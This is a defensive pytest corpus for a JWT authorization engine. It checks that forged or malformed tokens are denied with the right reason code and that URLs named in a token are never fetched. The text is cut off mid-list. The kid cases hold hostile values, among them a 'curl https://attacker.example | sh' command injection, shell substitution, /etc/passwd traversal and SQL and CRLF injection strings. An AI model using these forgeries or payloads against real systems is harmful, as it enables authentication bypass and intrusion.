"""The JWT attack corpus: every known way to forge, bend or smuggle a token is denied, each with the
reason code (docs/decisions.md) a careful operator would expect to read in the access log.

Each case is run through the real Engine, with the IdP's JWKS served by an httpx.MockTransport that
records every URL it is asked for; a selection also goes through the real server process over
gRPC. The IdP publishes two keys: ``rsa-1`` (a JWK pinned to RS256) and ``ec-1`` (ES256). The
attacker holds ``rsa-2``, which the IdP never published, and runs a web server on loopback that
plays attacker.example: a single hit there means a URL taken from a token was fetched.

How the expected reason is chosen:
  * not a JWS at all, or not one we can parse strictly (bad base64url, padding, non-canonical bits,
    duplicate JSON members, not a JSON object, not UTF-8, a ``crit`` we cannot honour, a claim of
    the wrong type)                                                        → token_malformed
  * ``alg`` outside the allow-list, or a key used with an algorithm it is not pinned to
                                                                           → algorithm_not_allowed
  * a ``kid`` the IdP never published                                      → key_not_found
  * a known key (or every key, with no ``kid``) that does not verify       → signature_invalid
  * then the claims in the contract's order: exp, nbf, iss, aud, verifyClaims, scope.
"""

from __future__ import annotations

import asyncio
import base64
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization

from extauthz.config import ConfigError, parse_config
from extauthz.decision import Reason
from extauthz.engine import Engine
from extauthz.response import to_check_response
from tests.conftest import AUDIENCE, ISSUER, SigningKey, claims, self_signed
from tests.fake_idp import FakeIdp
from tests.integration.serverproc import ExtauthzProcess
from tests.security._support import (
    JWKS_URI,
    AttackerServer,
    Sent,
    b64url,
    b64url_decode,
    bearer,
    build_engine,
    corpus_config,
    jbytes,
    run_check,
    server_process,
    sign_json,
    sign_raw,
    split,
)

# P-256 group order (SEC 2 §2.4.2): r = s = n is the other psychic signature.
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
URL_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


@dataclass(frozen=True)
class Kit:
    rsa: SigningKey  # the IdP's key, published as a JWK pinned to RS256
    ec: SigningKey  # the IdP's ES256 key
    attacker: SigningKey  # a key the IdP never published (kid rsa-2)
    attacker_url: str  # http://127.0.0.1:PORT, standing in for https://attacker.example

    def token(self, key: SigningKey | None = None, header: dict[str, Any] | None = None,
              **over: Any) -> str:
        """A token signed by ``key`` (the IdP's RSA key by default); None in ``header`` drops."""
        k = key or self.rsa
        h = {k2: v for k2, v in {"alg": k.alg, "kid": k.kid, **(header or {})}.items() if v is not None}
        return sign_json(h, claims(**over), k.private, k.alg)

    def raw(self, header: bytes | str, payload: bytes | str, key: SigningKey | None = None) -> str:
        k = key or self.rsa
        return sign_raw(header, payload, k.private, k.alg)

    def header(self, key: SigningKey | None = None, **extra: Any) -> bytes:
        k = key or self.rsa
        return jbytes({"alg": k.alg, "kid": k.kid, **extra})

    def attacker_jwk(self) -> dict[str, Any]:
        return self.attacker.public_jwk

    def attacker_cert_b64(self) -> str:
        """A self-signed certificate for the attacker's key, as an ``x5c`` entry (base64 DER)."""
        cert = self_signed(self.attacker.private, "idp.example.com")
        return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()


def raw_claims(extra: str = "", prefix: str = "", **over: Any) -> bytes:
    """The claims as JSON text, with raw members inserted first (``prefix``) or last (``extra``)."""
    body = jbytes(claims(**over)).decode()
    return ("{" + prefix + body[1:-1] + extra + "}").encode()


def unsigned(header: dict[str, Any], sig: str = "", **over: Any) -> str:
    return f"{b64url(jbytes(header))}.{b64url(jbytes(claims(**over)))}.{sig}"


def rsa_pem(kit: Kit) -> bytes:
    return bytes(kit.rsa.private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    ))


def es256_with_signature(kit: Kit, sig: bytes, kid: str | None = "ec-1") -> str:
    header = {"alg": "ES256", **({"kid": kid} if kid else {})}
    return f"{b64url(jbytes(header))}.{b64url(jbytes(claims(scope='orders.read admin')))}.{b64url(sig)}"


def der_zero_signature() -> bytes:
    # SEQUENCE { INTEGER 0, INTEGER 0 }
    return bytes.fromhex("3006020100020100")


def with_char_flipped(segment: str) -> str:
    """The same bytes with a different last character: only the unused low bits differ."""
    assert len(segment) % 4 in (2, 3), "the last character has no unused bits"
    last = URL_ALPHABET.index(segment[-1])
    return segment[:-1] + URL_ALPHABET[last ^ 1]


def payload_with_unused_bits(kit: Kit) -> str:
    """A payload segment whose length leaves unused bits, with one of them set."""
    for n in range(8):
        seg = b64url(jbytes(claims(pad="x" * n)))
        if len(seg) % 4 in (2, 3):
            return with_char_flipped(seg)
    raise AssertionError("unreachable")


def padded(segment: str) -> str:
    return segment + "=" * (-len(segment) % 4)


def padded_payload(kit: Kit) -> str:
    for n in range(8):
        seg = b64url(jbytes(claims(pad="x" * n)))
        if len(seg) % 4:
            return kit.raw(kit.header(), padded(seg))
    raise AssertionError("unreachable")


def standard_alphabet_signature(kit: Kit) -> str:
    for n in range(100):
        h, p, s = split(kit.token(jti=str(n)))
        if "-" in s or "_" in s:
            return f"{h}.{p}.{s.replace('-', '+').replace('_', '/')}"
    raise AssertionError("no signature with '-' or '_' in 100 tries")


def deep(depth: int) -> str:
    return "[" * depth + "]" * depth


def sized_claim(total: int) -> dict[str, Any]:
    """Claims whose token is about ``total`` bytes long."""
    return {"blob": "x" * int((total - 700) * 3 / 4)}


@dataclass(frozen=True)
class Attack:
    id: str
    reason: Reason
    make: Callable[[Kit], Sent]


def tok(f: Callable[[Kit], str]) -> Callable[[Kit], Sent]:
    return lambda kit: bearer(f(kit))


def signed_with(**over: Any) -> Callable[[Kit], Sent]:
    """A token the IdP's key really signed, with these claims changed."""
    return lambda kit: bearer(kit.token(**over))


def attacker_kid(kid: str) -> Callable[[Kit], Sent]:
    return lambda kit: bearer(kit.token(kit.attacker, {"kid": kid}, scope="admin"))


def alg_header(alg: str, *, real_signature: bool) -> Callable[[Kit], Sent]:
    def make(kit: Kit) -> Sent:
        sig = split(kit.token())[2] if real_signature else ""
        return bearer(unsigned({"alg": alg, "kid": "rsa-1"}, sig, scope="admin"))

    return make


def raw_payload(raw: bytes) -> Callable[[Kit], Sent]:
    return lambda kit: bearer(kit.raw(kit.header(), raw))


def reassembled(f: Callable[[str, str, str], str]) -> Callable[[Kit], Sent]:
    """A genuine token, taken apart and put back together by ``f(header, payload, signature)``."""
    return lambda kit: bearer(f(*split(kit.token())))


M, SIG, KEY, ALG = (Reason.TOKEN_MALFORMED, Reason.SIGNATURE_INVALID, Reason.KEY_NOT_FOUND,
                    Reason.ALGORITHM_NOT_ALLOWED)  # fmt: skip


ATTACKS: list[Attack] = [
    # -- alg: none in every casing, with and without a signature (RFC 8725 §2.1) --------------
    *[
        Attack(f"alg_{alg}_unsigned", ALG, alg_header(alg, real_signature=False))
        for alg in ("none", "None", "NONE", "nOnE")
    ],
    *[
        Attack(f"alg_{alg}_with_a_real_signature", ALG, alg_header(alg, real_signature=True))
        for alg in ("none", "NONE")
    ],
    Attack("alg_none_without_kid", ALG, tok(lambda kit: unsigned({"alg": "none"}))),
    Attack("alg_empty_string", ALG, tok(lambda kit: unsigned({"alg": "", "kid": "rsa-1"}, split(kit.token())[2]))),
    Attack("alg_lowercase_rs256", ALG, tok(lambda kit: kit.raw(jbytes({"alg": "rs256", "kid": "rsa-1"}), jbytes(claims())))),
    Attack("alg_with_trailing_space", ALG, tok(lambda kit: kit.raw(jbytes({"alg": "RS256 ", "kid": "rsa-1"}), jbytes(claims())))),
    Attack("alg_missing", M, tok(lambda kit: kit.raw(jbytes({"kid": "rsa-1"}), jbytes(claims())))),
    Attack("alg_not_a_string", M, tok(lambda kit: kit.raw(jbytes({"alg": ["RS256"], "kid": "rsa-1"}), jbytes(claims())))),
    # -- key confusion: HMAC keyed with the public key (CVE-2016-10555 family) ---------------
    Attack("hs256_keyed_with_rsa_public_pem", ALG,
           tok(lambda kit: sign_raw(jbytes({"alg": "HS256", "kid": "rsa-1"}), jbytes(claims(scope="admin")), rsa_pem(kit), "HS256"))),
    Attack("hs256_keyed_with_rsa_public_jwk_json", ALG,
           tok(lambda kit: sign_raw(jbytes({"alg": "HS256", "kid": "rsa-1"}), jbytes(claims()), json.dumps(kit.rsa.public_jwk).encode(), "HS256"))),
    Attack("hs256_keyed_with_rsa_pem_no_kid", ALG,
           tok(lambda kit: sign_raw(jbytes({"alg": "HS256"}), jbytes(claims()), rsa_pem(kit), "HS256"))),
    Attack("hs512_keyed_with_ec_public_pem", ALG,
           tok(lambda kit: sign_raw(jbytes({"alg": "HS512", "kid": "ec-1"}), jbytes(claims()),
                                    kit.ec.private.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo), "HS512"))),
    # -- stripped and empty signatures ---------------------------------------------------------
    Attack("signature_stripped_two_parts", M, tok(lambda kit: ".".join(split(kit.token())[:2]))),
    Attack("signature_empty", SIG, tok(lambda kit: ".".join(split(kit.token())[:2]) + ".")),
    Attack("signature_one_zero_byte", SIG, tok(lambda kit: ".".join(split(kit.token())[:2]) + ".AA")),
    Attack("signature_truncated", SIG,
           tok(lambda kit: ".".join(split(kit.token())[:2]) + "." + b64url(b64url_decode(split(kit.token())[2])[:128]))),
    # -- ECDSA psychic signatures, CVE-2022-21449 ------------------------------------------------
    Attack("es256_r0_s0_raw", SIG, tok(lambda kit: es256_with_signature(kit, bytes(64)))),
    Attack("es256_r0_s0_der", SIG, tok(lambda kit: es256_with_signature(kit, der_zero_signature()))),
    Attack("es256_r_s_equal_group_order", SIG, tok(lambda kit: es256_with_signature(kit, P256_ORDER.to_bytes(32, "big") * 2))),
    Attack("es256_r0_s0_without_kid", SIG, tok(lambda kit: es256_with_signature(kit, bytes(64), kid=None))),
    # -- kid: traversal, injection, size, control characters -----------------------------------
    *[
        Attack(f"kid_{name}", KEY, attacker_kid(kid))
        for name, kid in [
            ("path_traversal", "../../../../etc/passwd"),
            ("absolute_dev_null", "/dev/null"),
            ("sql_injection", "rsa-1' OR '1'='1"),
            ("sql_union", "x' UNION SELECT 'secret' --"),
            ("command_injection", "rsa-1; curl https://attacker.example | sh"),
            ("shell_substitution", "$(id)`id`"),
            ("url", "https://attacker.example/keys.json"),
            ("nul_byte", "rsa-1\x00"),
            ("crlf", "rsa-1\r\nx-admin: true"),
            ("huge_10kb", "k" * 10_000),
        ]
    ],
    Attack("kid_not_a_string", M, tok(lambda kit: kit.token(header={"kid": 1}))),
    Attack("kid_of_the_idp_signed_by_attacker", SIG, tok(lambda kit: kit.token(kit.attacker, {"kid": "rsa-1"}, scope="admin"))),
    Attack("no_kid_signed_by_attacker", SIG, tok(lambda kit: kit.token(kit.attacker, {"kid": None}))),
    # -- keys named by the token itself are never fetched nor trusted (RFC 8725 §3.10) -----------
    Attack("jku_attacker_jwks_attacker_kid", KEY,
           tok(lambda kit: kit.token(kit.attacker, {"jku": f"{kit.attacker_url}/jwks.json"}))),
    Attack("jku_attacker_jwks_idp_kid", SIG,
           tok(lambda kit: kit.token(kit.attacker, {"jku": f"{kit.attacker_url}/jwks.json", "kid": "rsa-1"}))),
    Attack("x5u_attacker_cert_url_no_kid", SIG,
           tok(lambda kit: kit.token(kit.attacker, {"x5u": f"{kit.attacker_url}/cert.pem", "kid": None}))),
    Attack("x5u_attacker_cert_url_attacker_kid", KEY,
           tok(lambda kit: kit.token(kit.attacker, {"x5u": f"{kit.attacker_url}/cert.pem"}))),
    Attack("jwk_embedded_attacker_key_attacker_kid", KEY,
           tok(lambda kit: kit.token(kit.attacker, {"jwk": kit.attacker_jwk()}))),
    Attack("jwk_embedded_attacker_key_idp_kid", SIG,
           tok(lambda kit: kit.token(kit.attacker, {"jwk": {**kit.attacker_jwk(), "kid": "rsa-1"}, "kid": "rsa-1"}))),
    Attack("x5c_attacker_cert_idp_kid", SIG,
           tok(lambda kit: kit.token(kit.attacker, {"x5c": [kit.attacker_cert_b64()], "kid": "rsa-1"}))),
    Attack("x5c_attacker_cert_no_kid", SIG,
           tok(lambda kit: kit.token(kit.attacker, {"x5c": [kit.attacker_cert_b64()], "kid": None}))),
    Attack("jku_x5u_jwk_x5c_all_at_once", SIG,
           tok(lambda kit: kit.token(kit.attacker, {"kid": "rsa-1", "jku": f"{kit.attacker_url}/j", "x5u": f"{kit.attacker_url}/x",
                                                    "jwk": kit.attacker_jwk(), "x5c": [kit.attacker_cert_b64()]}))),
    # -- crit (RFC 7515 §4.1.11): we understand no extension, even on a genuine token -----------
    Attack("crit_unknown_extension", M, tok(lambda kit: kit.token(header={"crit": ["x-attacker"], "x-attacker": True}))),
    Attack("crit_names_exp", M, tok(lambda kit: kit.token(header={"crit": ["exp"], "exp": 1}))),
    Attack("crit_b64_false_unencoded_payload", M, tok(lambda kit: kit.token(header={"crit": ["b64"], "b64": False}))),
    Attack("crit_empty_list", M, tok(lambda kit: kit.token(header={"crit": []}))),
    Attack("b64_false_without_crit", M, tok(lambda kit: kit.token(header={"b64": False}))),
    # -- duplicate JSON members (RFC 7515 §5.2, RFC 7519 §4): refused, never last-one-wins ----
    Attack("dup_header_alg_none_then_rs256", M, tok(lambda kit: kit.raw(b'{"alg":"none","alg":"RS256","kid":"rsa-1"}', jbytes(claims())))),
    Attack("dup_header_kid_attacker_then_idp", M, tok(lambda kit: kit.raw(b'{"alg":"RS256","kid":"rsa-2","kid":"rsa-1"}', jbytes(claims())))),
    Attack("dup_payload_exp_past_then_future", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(prefix='"exp":1,')))),
    Attack("dup_payload_exp_future_then_past", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"exp":1')))),
    Attack("dup_payload_iss_evil_then_idp", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(prefix='"iss":"https://evil.example.com",')))),
    Attack("dup_payload_iss_idp_then_evil", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"iss":"https://evil.example.com"')))),
    Attack("dup_payload_exp_via_unicode_escape", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"\\u0065xp":1')))),
    Attack("dup_payload_scope_escalation", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"scope":"orders.read admin"')))),
    # -- base64url: strict alphabet, no padding, canonical bits (RFC 7515 §2) -------------------
    Attack("padding_on_signature", M, reassembled(lambda h, p, s: f"{h}.{p}.{padded(s)}")),
    Attack("padding_on_payload_signed_as_sent", M, tok(padded_payload)),
    Attack("standard_base64_plus_slash_in_signature", M, tok(standard_alphabet_signature)),
    Attack("noncanonical_trailing_bits_in_signature", M, reassembled(lambda h, p, s: f"{h}.{p}.{with_char_flipped(s)}")),
    Attack("noncanonical_trailing_bits_in_payload_signed_as_sent", M, tok(lambda kit: kit.raw(kit.header(), payload_with_unused_bits(kit)))),
    Attack("tilde_inside_signature", M, reassembled(lambda h, p, s: f"{h}.{p}.{s[:20]}~{s[20:]}")),
    Attack("space_inside_token", M, reassembled(lambda h, p, s: f"{h}.{p}. {s}")),
    Attack("newline_inside_token", M, reassembled(lambda h, p, s: f"{h}.\n{p}.{s}")),
    Attack("tab_inside_token", M, reassembled(lambda h, p, s: f"{h}\t.{p}.{s}")),
    Attack("percent_encoded_dots", M, tok(lambda kit: kit.token().replace(".", "%2E"))),
    Attack("payload_utf16_json", M, tok(lambda kit: kit.raw(kit.header(), json.dumps(claims()).encode("utf-16")))),
    Attack("header_utf16_json", M, tok(lambda kit: kit.raw(json.dumps({"alg": "RS256", "kid": "rsa-1"}).encode("utf-16"), jbytes(claims())))),
    # -- shapes that are not one JWS with a JSON-object payload -----------------------------------
    Attack("nested_jwt_cty_jwt", M, tok(lambda kit: kit.raw(kit.header(cty="JWT"), kit.token().encode()))),
    Attack("jwe_five_parts", M, tok(lambda kit: ".".join([b64url(jbytes({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "rsa-1"})), "AAAA", "AAAA", b64url(jbytes(claims())), "AAAA"]))),
    Attack("four_parts", M, tok(lambda kit: kit.token() + ".AAAA")),
    Attack("only_dots", M, tok(lambda kit: "..")),
    *[
        Attack(f"payload_json_{name}", M, raw_payload(raw))
        for name, raw in [("array", b'[{"sub":"admin"}]'), ("string", b'"admin"'), ("number", b"42"), ("null", b"null"), ("true", b"true")]
    ],
    Attack("payload_not_json", M, tok(lambda kit: kit.raw(kit.header(), b"sub=admin"))),
    Attack("payload_json_with_trailing_garbage", M, tok(lambda kit: kit.raw(kit.header(), jbytes(claims()) + b"x"))),
    Attack("header_json_array", M, tok(lambda kit: kit.raw(b'["RS256"]', jbytes(claims())))),
    Attack("payload_deeply_nested_4000", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=f',"x":{deep(4000)}')))),
    Attack("header_deeply_nested_4000", M, tok(lambda kit: f"{b64url(deep(4000).encode())}.{split(kit.token())[1]}.{split(kit.token())[2]}")),
    Attack("claim_with_lone_surrogate", M, tok(lambda kit: kit.token(sub="\ud800"))),
    # -- size ----------------------------------------------------------------------------------
    Attack("huge_token_256kb", M, tok(lambda kit: kit.token(**sized_claim(256 * 1024)))),
    Attack("huge_claim_20kb", M, tok(lambda kit: kit.token(**sized_claim(20 * 1024)))),
    # -- NumericDate tricks (RFC 7519 §2: a JSON number) ---------------------------------------
    Attack("exp_string", M, tok(lambda kit: kit.token(exp="9999999999"))),
    Attack("exp_float_in_the_past", Reason.TOKEN_EXPIRED, tok(lambda kit: kit.token(exp=time.time() - 10.5))),
    Attack("exp_nan", M, tok(lambda kit: kit.token(exp=float("nan")))),
    Attack("exp_infinity", M, tok(lambda kit: kit.token(exp=float("inf")))),
    Attack("exp_minus_infinity", M, tok(lambda kit: kit.token(exp=float("-inf")))),
    Attack("exp_1e400_overflows_to_infinity", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"exp":1e400', exp=None)))),
    Attack("exp_integer_10_pow_400", M, tok(lambda kit: kit.token(exp=10**400))),
    Attack("exp_integer_5000_digits", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"exp":' + "9" * 5000, exp=None)))),
    Attack("exp_negative", Reason.TOKEN_EXPIRED, tok(lambda kit: kit.token(exp=-1))),
    Attack("exp_minus_2_pow_64", Reason.TOKEN_EXPIRED, tok(lambda kit: kit.token(exp=-(2**64)))),
    Attack("exp_boolean", M, tok(lambda kit: kit.token(exp=True))),
    Attack("exp_null", M, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"exp":null', exp=None)))),
    Attack("exp_missing", Reason.CLAIM_MISSING, tok(lambda kit: kit.token(exp=None))),
    Attack("nbf_1e308", Reason.TOKEN_NOT_YET_VALID, tok(lambda kit: kit.token(nbf=1e308))),
    Attack("nbf_float_in_the_future", Reason.TOKEN_NOT_YET_VALID, tok(lambda kit: kit.token(nbf=time.time() + 60.5))),
    Attack("nbf_2_pow_64", Reason.TOKEN_NOT_YET_VALID, tok(lambda kit: kit.token(nbf=2**64))),
    Attack("nbf_string", M, tok(lambda kit: kit.token(nbf="0"))),
    Attack("nbf_integer_10_pow_400", M, tok(lambda kit: kit.token(nbf=10**400))),
    Attack("iat_string", M, tok(lambda kit: kit.token(iat="now"))),
    Attack("iat_nan", M, tok(lambda kit: kit.token(iat=float("nan")))),
    Attack("iat_integer_10_pow_400", M, tok(lambda kit: kit.token(iat=10**400))),
    # -- issuer: exact string comparison (OIDC Discovery §4.3) -----------------------------------
    *[
        Attack(f"iss_{name}", Reason.ISSUER_MISMATCH, signed_with(iss=iss))
        for name, iss in [
            ("trailing_slash", ISSUER + "/"),
            ("different_case", ISSUER.upper()),
            ("mixed_case_host", "https://IDP.example.com"),
            ("leading_space", " " + ISSUER),
            ("as_array", [ISSUER]),
            ("lookalike_suffix", ISSUER + ".evil.example"),
            ("userinfo_trick", "https://idp.example.com@evil.example"),
        ]
    ],
    Attack("iss_missing", Reason.ISSUER_MISMATCH, tok(lambda kit: kit.token(iss=None))),
    Attack("iss_null", Reason.ISSUER_MISMATCH, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"iss":null', iss=None)))),
    # -- audience -------------------------------------------------------------------------------
    *[
        Attack(f"aud_{name}", Reason.AUDIENCE_MISMATCH, signed_with(aud=aud))
        for name, aud in [
            ("array_with_empty_string", [""]),
            ("empty_string", ""),
            ("array_empty_string_and_other", ["", "https://other.example.com"]),
            ("empty_array", []),
            ("nested_array", [[AUDIENCE]]),
            ("object", {"aud": AUDIENCE}),
            ("trailing_slash", AUDIENCE + "/"),
            ("different_case", AUDIENCE.upper()),
        ]
    ],
    Attack("aud_missing", Reason.AUDIENCE_MISMATCH, tok(lambda kit: kit.token(aud=None))),
    # -- verifyClaims tenant: [acme], required ---------------------------------------------------
    Attack("tenant_array_of_others", Reason.CLAIM_VALUE_MISMATCH, tok(lambda kit: kit.token(tenant=["globex", "initech"]))),
    Attack("tenant_different_case", Reason.CLAIM_VALUE_MISMATCH, tok(lambda kit: kit.token(tenant="ACME"))),
    Attack("tenant_with_nul_suffix", Reason.CLAIM_VALUE_MISMATCH, tok(lambda kit: kit.token(tenant="acme\x00"))),
    Attack("tenant_as_object", Reason.CLAIM_VALUE_MISMATCH, tok(lambda kit: kit.token(tenant={"acme": True}))),
    Attack("tenant_null", Reason.CLAIM_MISSING, tok(lambda kit: kit.raw(kit.header(), raw_claims(extra=',"tenant":null', tenant=None)))),
    # -- scope (route needs orders.read) ----------------------------------------------------------
    Attack("scope_prefix_lookalike", Reason.INSUFFICIENT_SCOPE, tok(lambda kit: kit.token(scope="orders.readx orders.rea"))),
    Attack("scope_array_of_one_joined_string", Reason.INSUFFICIENT_SCOPE, tok(lambda kit: kit.token(scope=["admin orders.read"]))),
    Attack("scope_nbsp_smuggles_a_scope", Reason.INSUFFICIENT_SCOPE, tok(lambda kit: kit.token(scope="admin\u00a0orders.read"))),
    Attack("scope_tab_smuggles_a_scope", Reason.INSUFFICIENT_SCOPE, tok(lambda kit: kit.token(scope="admin\torders.read"))),
    # -- where the token is read from --------------------------------------------------------------
    Attack("query_policy_ignores_a_valid_header_token", Reason.TOKEN_MISSING,
           lambda kit: Sent({"authorization": f"Bearer {kit.token()}"}, "/q/42")),
    Attack("query_policy_reads_the_query_not_the_header", Reason.TOKEN_EXPIRED,
           lambda kit: Sent({"authorization": f"Bearer {kit.token()}"}, f"/q/42?access_token={kit.token(exp=1)}")),
    Attack("header_policy_ignores_a_valid_query_token", Reason.TOKEN_MISSING,
           lambda kit: Sent({}, f"/orders/42?access_token={kit.token()}")),
    Attack("header_policy_reads_the_header_not_the_query", Reason.TOKEN_EXPIRED,
           lambda kit: Sent({"authorization": f"Bearer {kit.token(exp=1)}"}, f"/orders/42?access_token={kit.token()}")),
    Attack("query_param_sent_twice", M,
           lambda kit: Sent({}, f"/q/42?access_token={kit.token()}&access_token={kit.token(exp=1)}")),
    Attack("two_tokens_in_one_authorization_header", M,
           lambda kit: Sent({"authorization": f"Bearer {kit.token(exp=1)} {kit.token()}"})),
    Attack("empty_bearer_credentials", M, lambda kit: Sent({"authorization": "Bearer "})),
    Attack("basic_scheme_is_not_a_bearer_token", Reason.TOKEN_MISSING, lambda kit: Sent({"authorization": "Basic YWRtaW46YWRtaW4="})),
    # -- splicing parts of genuine tokens -----------------------------------------------------------
    Attack("signature_spliced_from_another_token", SIG,
           tok(lambda kit: ".".join(split(kit.token(scope="orders.read admin", sub="root"))[:2]) + "." + split(kit.token())[2])),
    Attack("header_spliced_from_an_es256_token", SIG,
           tok(lambda kit: split(kit.token(kit.ec))[0] + "." + ".".join(split(kit.token())[1:]))),
    # -- algorithm substitution on a key pinned to one algorithm (RFC 7517 §4.4) ---------------
    Attack("rs384_with_the_rs256_pinned_key", ALG, tok(lambda kit: sign_raw(jbytes({"alg": "RS384", "kid": "rsa-1"}), jbytes(claims()), kit.rsa.private, "RS384"))),
    Attack("ps256_with_the_rs256_pinned_key", ALG, tok(lambda kit: sign_raw(jbytes({"alg": "PS256", "kid": "rsa-1"}), jbytes(claims()), kit.rsa.private, "PS256"))),
    Attack("es256_header_naming_the_rsa_key", ALG, tok(lambda kit: sign_raw(jbytes({"alg": "ES256", "kid": "rsa-1"}), jbytes(claims()), kit.ec.private, "ES256"))),
    Attack("rs256_header_naming_the_ec_key", ALG, tok(lambda kit: sign_raw(jbytes({"alg": "RS256", "kid": "ec-1"}), jbytes(claims()), kit.rsa.private, "RS256"))),
    Attack("es384_with_a_p256_key", ALG, tok(lambda kit: unsigned({"alg": "ES384", "kid": "ec-1"}, "AAAA"))),
    # -- typ / cty ------------------------------------------------------------------------------------
    Attack("typ_not_a_string", M, tok(lambda kit: kit.token(header={"typ": {"JWT": True}}))),
    Attack("cty_not_a_string", M, tok(lambda kit: kit.token(header={"cty": ["JWT"]}))),
    Attack("typ_at_jwt_with_alg_none", ALG, tok(lambda kit: unsigned({"alg": "none", "typ": "at+jwt", "kid": "rsa-1"}))),
]


def params(attacks: list[Attack]) -> list[Any]:
    return [
        pytest.param(a, id=a.id, marks=[])
        for a in attacks
    ]


def test_the_corpus_is_big_and_every_case_is_distinct() -> None:
    assert len(ATTACKS) >= 30
    ids = [a.id for a in ATTACKS]
    assert len(ids) == len(set(ids))


@pytest.fixture(scope="module")
def attacker() -> Iterator[AttackerServer]:
    with AttackerServer() as server:
        yield server


@pytest.fixture(scope="module")
def kit(rsa_key: SigningKey, rsa_key2: SigningKey, ec_key: SigningKey, attacker: AttackerServer) -> Kit:
    return Kit(rsa_key, ec_key, rsa_key2, attacker.base)


def assert_denied(resp: Any, reason: Reason) -> None:
    """The CheckResponse of a bad-token denial, as docs/decisions.md draws it."""
    headers = {h.header.key: h.header.value for h in resp.denied_response.headers}
    assert headers.get("x-extauthz-reason") == reason.value
    if reason is Reason.INSUFFICIENT_SCOPE:
        assert (resp.status.code, resp.denied_response.status.code) == (7, 403)
        return
    assert (resp.status.code, resp.denied_response.status.code) == (16, 401)
    challenge = 'Bearer realm="{}"'
    if reason is Reason.TOKEN_MISSING:
        assert headers["www-authenticate"] in (challenge.format("orders"), challenge.format("query"))
    else:
        assert headers["www-authenticate"].endswith(', error="invalid_token"')
    assert json.loads(resp.denied_response.body)["reason"] == reason.value


@pytest.mark.parametrize("attack", params(ATTACKS))
def test_attack_is_denied_by_the_engine(attack: Attack, kit: Kit, attacker: AttackerServer) -> None:
    config = parse_config(corpus_config({"type": "REMOTE_JWKS", "uri": JWKS_URI}))
    idp = FakeIdp([kit.rsa.public_jwk, kit.ec.public_jwk])
    engine, providers = build_engine(config, idp)
    sent = attack.make(kit)
    decision = run_check(engine, providers, sent.check_input())
    assert not decision.allowed, f"{attack.id} was ALLOWED"
    assert decision.reason is attack.reason, (decision.reason, decision.message)
    assert_denied(to_check_response(decision, "attack", config.server), attack.reason)
    # The log sentence never quotes the credential.
    for value in sent.headers.values():
        for part in value.replace("Bearer ", "").split("."):
            if len(part) >= 16:
                assert part not in decision.message
    # Only the configured JWKS URI is ever fetched; nothing named by a token.
    assert set(idp.urls) <= {JWKS_URI}, idp.urls
    assert attacker.hits == []


def test_no_url_taken_from_a_token_is_ever_requested(kit: Kit, attacker: AttackerServer) -> None:
    """One engine, every key-naming header at once, kid refetches included: the IdP transport sees
    only the configured JWKS URI and attacker.example is never contacted."""
    config = parse_config(corpus_config({"type": "REMOTE_JWKS", "uri": JWKS_URI}))
    idp = FakeIdp([kit.rsa.public_jwk, kit.ec.public_jwk])
    now = [1000.0]
    providers = idp.providers(config, clock=lambda: now[0])
    engine = Engine(config, providers.by_deployment)
    url = kit.attacker_url
    headers: list[dict[str, Any]] = [
        {"jku": f"{url}/jwks.json"}, {"x5u": f"{url}/cert.pem"}, {"jwk": kit.attacker_jwk()},
        {"x5c": [kit.attacker_cert_b64()]}, {"kid": f"{url}/kid"},
        {"jku": f"{url}/a", "x5u": f"{url}/b", "jwk": kit.attacker_jwk(), "x5c": [kit.attacker_cert_b64()]},
    ]

    async def run() -> list[Reason | None]:
        reasons = []
        try:
            for h in headers:
                for kid in ("rsa-1", "attacker-kid", None):
                    now[0] += 10  # past the unknown-kid refetch interval: refetches may happen
                    token = kit.token(kit.attacker, {**h, "kid": kid} if "kid" not in h else h)
                    d = await engine.check(bearer(token).check_input())
                    assert not d.allowed
                    reasons.append(d.reason)
        finally:
            await providers.aclose()
        return reasons

    reasons = asyncio.run(run())
    assert set(reasons) <= {Reason.SIGNATURE_INVALID, Reason.KEY_NOT_FOUND}
    assert idp.urls and set(idp.urls) == {JWKS_URI}
    assert attacker.hits == []


@pytest.mark.parametrize("algorithms", [["HS256"], ["none"], ["RS256", "HS256"], ["None"]])
def test_hmac_and_none_cannot_even_be_configured(algorithms: list[str], rsa_key: SigningKey) -> None:
    """Key confusion needs HS* in the allow-list; the config refuses it outright."""
    config = corpus_config({"type": "STATIC_KEYS", "keys": [rsa_key.public_jwk], "allowedAlgorithms": algorithms})
    with pytest.raises(ConfigError) as err:
        parse_config(config)
    assert "allowedAlgorithms" in str(err.value)


# -- the same attacks against the server as a user runs it ---------------------------------------

OVER_GRPC = {
    "alg_none_unsigned", "alg_nOnE_unsigned", "alg_NONE_with_a_real_signature",
    "hs256_keyed_with_rsa_public_pem", "signature_empty", "es256_r0_s0_raw", "es256_r0_s0_der",
    "kid_path_traversal", "kid_crlf", "jku_attacker_jwks_idp_kid", "x5c_attacker_cert_no_kid",
    "crit_unknown_extension", "dup_payload_iss_evil_then_idp", "padding_on_signature",
    "nested_jwt_cty_jwt", "jwe_five_parts", "huge_token_256kb", "exp_nan",
    "exp_integer_10_pow_400", "aud_array_with_empty_string", "iss_trailing_slash",
    "query_policy_reads_the_query_not_the_header", "header_policy_ignores_a_valid_query_token",
    "signature_spliced_from_another_token", "rs384_with_the_rs256_pinned_key",
